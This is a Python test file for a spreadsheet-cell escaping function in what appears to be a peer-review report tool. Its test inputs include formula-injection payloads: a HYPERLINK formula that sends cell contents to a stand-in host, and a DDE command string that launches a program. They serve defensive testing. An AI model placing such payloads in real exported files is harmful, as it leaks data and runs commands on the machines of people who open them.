"""Cells that a spreadsheet opens without running anything."""

import pytest

from peerlens.report.cells import cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.invalid/?x="&A1,"open") is how the table was made.',
        "- No ablation.",
        "+1 for clarity.",
        "@authors please report the seed.",
        "\t=1+1 after a tab",
        " =1+1",
        "\xa0=1+1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "-0.3 is the change in error.",
        "-2+3",
        "+cmd|' /C calc'!A0",
    ],
)
def test_text_that_would_run_is_marked_as_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-0.3", "+1", "1e-5", "-.5", " -3 ", "plain", "a = b", "", "0.3 - 0.1", "a@b"])
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


def test_numbers_stay_numbers_and_nothing_is_empty() -> None:
    assert (cell(-0.3), cell(3), cell(None), cell("a\0b")) == (-0.3, 3, "", "ab")
